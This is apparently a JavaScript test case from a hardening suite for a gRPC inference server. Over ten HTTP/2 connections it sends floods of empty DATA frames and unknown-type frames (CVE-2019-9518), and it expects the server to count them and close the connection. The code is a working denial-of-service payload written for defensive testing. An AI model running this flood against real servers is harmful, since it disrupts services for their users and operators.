import { defineAttack, MODEL_INFER } from '../../hostile-client.js';
import { END_HEADERS, FRAME, frame, PREFACE, requestHeaders, settings } from '../../http2-frames.js';

export const attack = defineAttack(import.meta.url, {
  does: 'ten connections send DATA frames without a byte, and frames of unknown types',
  bound: 'frames without effect are counted, then the connection is closed (CVE-2019-9518)',
  port: 'grpc',
  async run(client) {
    const empty = Buffer.alloc(9 * 20_000, frame(FRAME.data, 0, 1));
    const unknown = Buffer.alloc(9 * 20_000, frame(0xee, 0xff, 1));
    const sockets = Array.from({ length: 10 }, () => client.socket());
    for (const socket of sockets) {
      const headers = frame(FRAME.headers, END_HEADERS, 1, requestHeaders(MODEL_INFER));
      socket.write(Buffer.concat([PREFACE, settings(), headers]));
    }
    await client.repeat(20, (round) => {
      for (const socket of sockets) {
        if (socket.writable && socket.writableLength < 1e6) socket.write(round % 2 === 0 ? empty : unknown);
      }
    });
  },
});
